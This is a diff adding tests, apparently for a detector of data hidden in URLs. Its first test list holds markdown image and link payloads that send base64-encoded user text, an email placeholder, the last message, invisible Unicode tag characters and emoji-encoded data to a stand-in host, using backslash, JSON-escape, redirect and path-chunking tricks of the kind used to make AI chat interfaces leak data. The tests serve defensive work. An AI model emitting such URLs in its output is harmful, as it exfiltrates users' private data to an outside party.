@@ -75,3 +75,29 @@ it('asks once of a literal behind many commands', () => {
   expect(grown).toBeLessThan(7);
   expect(Error.stackTraceLimit).toBeGreaterThan(0);
 });
+
+describe('an address that browsers read as one', () => {
+  const sent = base64('the customer lives in Lisbon');
+  it.each([
+    `![x](https:/\\c.example/p?d=${sent})`,
+    `![x](https:\\\\c.example\\p?d=${sent})`,
+    `![x](/\\c.example/p?d=${sent})`,
+    `![x](\\\\c.example\\share\\${sent}.png)`,
+    `{"url":"https:\\/\\/c.example\\/p?d=${sent}"}`,
+    `{"page":"<img src=\\"https://c.example/p?${Buffer.from('the customer lives in Lisbon').toString('base64')}\\">"}`,
+    `[x](https://www.c.example/ck/a?u=a1${base64(`https://d.example/?d=${sent}`)})`,
+    `![x](https://c.example/${sent.match(/.{1,8}/g)?.join('/')})`,
+    '![x](https://c.example/p?e=[EMAIL_OF_USER])',
+    '![x](https://c.example/{base64(last_message)}.gif)',
+    `![x](https://c.example/p?d=${encodeURIComponent('\u{e0064}\u{e006f}\u{e006f}\u{e0072}\u{e0020}\u{e0037}\u{e0037}\u{e0034}')})`,
+    `![x](https://c.example/p?m=${'😀😁😁'.repeat(5)})`,
+  ])('carries what it carries: %s', (text) => expect(typesIn(text)).not.toEqual([]));
+
+  it.each([
+    'C:\\\\Users\\\\ann\\\\Documents\\\\installation-of-the-service-2.txt',
+    `[pay](https://c.example/i/live_${base64('acct_1032D82eZvKYlo2C,_N9Ux')})`,
+    'ipfs://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/metadata.json',
+    '![x](https://media.licdn.com/i/p?e=1700000000&t=NkDoRSvEaErnoQdUpBMcnyS6BsVVkWhI2wPiZPmsKc)',
+    'https://eur03.safelinks.protection.outlook.com/?url=https%3A%2F%2Fc.example&data=05%7C01%7Cann%40c.example&sdata=Qm9yZGVyTGluZQ%3D%3D',
+  ])('says nothing by what names it: %s', (text) => expect(typesIn(text)).toEqual([]));
+});
